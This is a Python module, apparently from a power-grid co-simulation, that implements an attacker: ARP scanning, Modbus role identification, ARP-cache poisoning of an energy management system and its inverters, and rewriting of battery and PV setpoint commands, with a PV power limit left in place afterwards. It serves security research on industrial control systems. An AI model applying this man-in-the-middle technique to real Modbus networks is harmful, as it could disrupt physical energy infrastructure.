"""Attacker state machine: scan, role identification, ARP-spoof MITM,
command manipulation.

The attacker sits on the same switch as everyone else.  Ahead of the
attack window it ARP-scans the /24 and identifies device roles by
reading holding register 0 (no authentication required); the EMS, which
runs no Modbus server, is recognized as the host that ARP-resolved the
device addresses (its broadcasts are visible to everyone).

During the window it poisons the EMS's and the inverters' ARP caches,
rewrites intercepted battery setpoint writes to a forced charging
power, injects a PV power limit, and forwards everything else
unmodified so the channel stays alive.  On stop it repairs the caches
but deliberately leaves the PV limit in place.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .cosim import SimulatorHandle, StepContext
from .modbus import (DEVICE_BSS, DEVICE_LOAD, DEVICE_METER, DEVICE_PV,
                     FC_WRITE_SINGLE, REG_DEVICE_TYPE, REG_SETPOINT,
                     FrameError, decode, encode, fp_encode,
                     parse_read_response, parse_write_single,
                     read_holding_request, write_single_request, ModbusAdu)
from .netem import (ARP_REPLY, ARP_REQUEST, ETH_ARP, ArpMessage, Host,
                    IpDelivery, InputError)

PORT_PROBE = 49300
PORT_INJECT = 49310

ROLE_BY_TYPE = {DEVICE_PV: "PV", DEVICE_BSS: "BSS",
                DEVICE_LOAD: "LoadBank", DEVICE_METER: "Meter"}


@dataclass(frozen=True)
class AttackPlan:
    start_s: float              # seconds since midnight
    end_s: float
    pv_limit_kw: float = 3.5
    bss_charge_kw: float = 14.0
    repoison_period_s: float = 10.0
    recon_lead_s: float = 60.0

    def __post_init__(self):
        if self.start_s >= self.end_s:
            raise ValueError("attack start must precede end")
        if self.pv_limit_kw < 0:
            raise ValueError("pv_limit_kw must be >= 0")


@dataclass
class RoleMap:
    entries: dict[str, str] = field(default_factory=dict)  # ip -> role

    def role(self, ip: str) -> str:
        return self.entries.get(ip, "unknown")


class Attacker:
    def __init__(self, host: Host, plan: AttackPlan, step_s: float):
        self.host = host
        self.plan = plan
        self.step_s = step_s
        self.roles = RoleMap()
        self.scan_results: dict[str, str] = {}   # ip -> mac (true bindings)
        self.mitm_active = False
        self.events: list[tuple[int, str]] = []
        self._probes: dict[int, str] = {}        # txid -> probed ip
        self._txid = 0x4000
        self._arp_askers: dict[str, set[str]] = {}  # sender ip -> asked ips
        self._scanned = False
        self._identified = False
        self._last_poison_step: int | None = None
        self._corrected = False

    def handle(self) -> SimulatorHandle:
        return SimulatorHandle(id=self.host.id, behavior=self.step)

    # -- helpers ----------------------------------------------------------

    def _steps(self, t_s: float, epoch_s: float) -> int:
        return round((t_s - epoch_s) / self.step_s)

    def _next_tx(self) -> int:
        self._txid = (self._txid + 1) & 0xFFFF
        return self._txid

    @property
    def ems_ip(self) -> str | None:
        for ip, role in self.roles.entries.items():
            if role == "EMS":
                return ip
        return None

    def _victim_ips(self) -> list[str]:
        return [ip for ip, role in sorted(self.roles.entries.items())
                if role in ("PV", "BSS")]

    # -- per-step behavior ------------------------------------------------

    def step(self, ctx: StepContext) -> None:
        self._observe_broadcasts()
        deliveries = self.host.receive()
        epoch = ctx.clock.epoch_s
        recon = self._steps(self.plan.start_s, epoch) \
            - max(1, round(self.plan.recon_lead_s / self.step_s))
        start = self._steps(self.plan.start_s, epoch)
        end = self._steps(self.plan.end_s, epoch)
        repoison = max(1, round(self.plan.repoison_period_s / self.step_s))

        if ctx.step == recon:
            self.arp_scan()
        if ctx.step == recon + 3 and not self._identified:
            self.identify_roles(ctx)
            self._identified = True
        if start <= ctx.step < end:
            if not self.mitm_active:
                self.start_mitm(ctx)
            elif ctx.step - self._last_poison_step >= repoison:
                self._poison(ctx)
        elif self.mitm_active and ctx.step >= end:
            self.stop_mitm(ctx)

        for d in deliveries:
            if d.dst_ip == self.host.ip:
                self._handle_own(ctx, d)
            else:
                self._intercept(ctx, d)

    def _observe_broadcasts(self) -> None:
        """Passively note who ARP-resolves whom (EMS fingerprint)."""
        for frame in self.host.read_tap():
            if frame.ethertype != ETH_ARP:
                continue
            try:
                msg = ArpMessage.from_bytes(frame.payload)
            except InputError:
                continue
            if msg.op == ARP_REQUEST and msg.sender_ip != self.host.ip:
                self._arp_askers.setdefault(msg.sender_ip, set()).add(
                    msg.target_ip)

    # -- kill-chain stages ------------------------------------------------

    def arp_scan(self) -> None:
        """Broadcast-probe every address of the /24 in one burst."""
        for ip in self.host.net.subnet.hosts():
            ip = str(ip)
            if ip != self.host.ip:
                self.host.resolve(ip)
        self._scanned = True

    def identify_roles(self, ctx: StepContext) -> None:
        """Read register 0 of every scan responder; label the EMS from the
        observed ARP-request pattern."""
        self.scan_results = {ip: mac for ip, (mac, _) in
                             sorted(self.host.endpoint.arp_cache.items())}
        for ip in self.scan_results:
            tx = self._next_tx()
            self._probes[tx] = ip
            adu = read_holding_request(tx, 1, REG_DEVICE_TYPE)
            self.host.send_ip(ip, encode(adu), src_port=PORT_PROBE)
            self.roles.entries.setdefault(ip, "unknown")
        self.events.append((ctx.step, "identify-roles"))

    def _handle_own(self, ctx: StepContext, d: IpDelivery) -> None:
        try:
            adu = decode(d.payload)
        except FrameError:
            return
        ip = self._probes.pop(adu.header.transaction_id, None)
        if ip is None or adu.is_exception:
            return
        if adu.function == 0x03:
            try:
                dev_type = parse_read_response(adu)[0]
            except FrameError:
                return
            self.roles.entries[ip] = ROLE_BY_TYPE.get(dev_type, "unknown")
            self._label_ems()

    def _label_ems(self) -> None:
        device_ips = {ip for ip, r in self.roles.entries.items()
                      if r in ("PV", "BSS", "Meter", "LoadBank")}
        if not device_ips:
            return
        for asker, asked in sorted(self._arp_askers.items()):
            if asker in device_ips or asker not in self.scan_results:
                continue
            if len(asked & device_ips) >= 2 and \
                    self.roles.entries.get(asker) in (None, "unknown"):
                self.roles.entries[asker] = "EMS"

    def start_mitm(self, ctx: StepContext) -> None:
        if self.ems_ip is None:
            self.events.append((ctx.step, "mitm-aborted-no-ems"))
            return
        self.mitm_active = True
        self._corrected = False
        self._poison(ctx)
        # plant the PV limit and the forced BSS charging setpoint directly
        for role, value in (("PV", self.plan.pv_limit_kw),
                            ("BSS", self.plan.bss_charge_kw)):
            ip = next((i for i, r in self.roles.entries.items() if r == role),
                      None)
            if ip is not None:
                adu = write_single_request(self._next_tx(), 1, REG_SETPOINT,
                                           fp_encode(value))
                self.host.send_ip(ip, encode(adu), src_port=PORT_INJECT)
        self.events.append((ctx.step, "mitm-start"))

    def _poison(self, ctx: StepContext) -> None:
        """Forged ARP replies binding victim peers' IPs to our MAC."""
        ems_ip = self.ems_ip
        ems_mac = self.scan_results.get(ems_ip)
        me = self.host.mac
        for victim_ip in self._victim_ips():
            victim_mac = self.scan_results[victim_ip]
            # tell the EMS: victim_ip is at our MAC
            self.host.send_arp(
                ArpMessage(ARP_REPLY, me, victim_ip, ems_mac, ems_ip), ems_mac)
            # tell the victim: the EMS ip is at our MAC
            self.host.send_arp(
                ArpMessage(ARP_REPLY, me, ems_ip, victim_mac, victim_ip),
                victim_mac)
        self._last_poison_step = ctx.step

    def manipulate(self, adu: ModbusAdu, dst_ip: str) -> ModbusAdu:
        """Rewrite intercepted setpoint writes; pass everything else."""
        if adu.function != FC_WRITE_SINGLE or adu.is_exception:
            return adu
        try:
            addr, _value = parse_write_single(adu)
        except FrameError:
            return adu
        if addr != REG_SETPOINT:
            return adu
        role = self.roles.role(dst_ip)
        if role == "BSS":
            return write_single_request(adu.header.transaction_id,
                                        adu.header.unit_id, addr,
                                        fp_encode(self.plan.bss_charge_kw))
        if role == "PV":
            return write_single_request(adu.header.transaction_id,
                                        adu.header.unit_id, addr,
                                        fp_encode(self.plan.pv_limit_kw))
        return adu

    def _intercept(self, ctx: StepContext, d: IpDelivery) -> None:
        true_mac = self.scan_results.get(d.dst_ip)
        if true_mac is None:
            return
        payload = d.payload
        if self.mitm_active:
            try:
                payload = encode(self.manipulate(decode(payload), d.dst_ip))
            except FrameError:
                payload = d.payload  # malformed: forward untouched
        self.host.forward_ip(d, payload, true_mac)

    def stop_mitm(self, ctx: StepContext) -> None:
        """Stop poisoning and repair the caches; the PV limit stays."""
        self.mitm_active = False
        if self._corrected:
            return
        ems_ip = self.ems_ip
        ems_mac = self.scan_results.get(ems_ip)
        for victim_ip in self._victim_ips():
            victim_mac = self.scan_results[victim_ip]
            self.host.send_arp(
                ArpMessage(ARP_REPLY, victim_mac, victim_ip, ems_mac, ems_ip),
                ems_mac)
            self.host.send_arp(
                ArpMessage(ARP_REPLY, ems_mac, ems_ip, victim_mac, victim_ip),
                victim_mac)
        self._corrected = True
        self.events.append((ctx.step, "mitm-stop"))
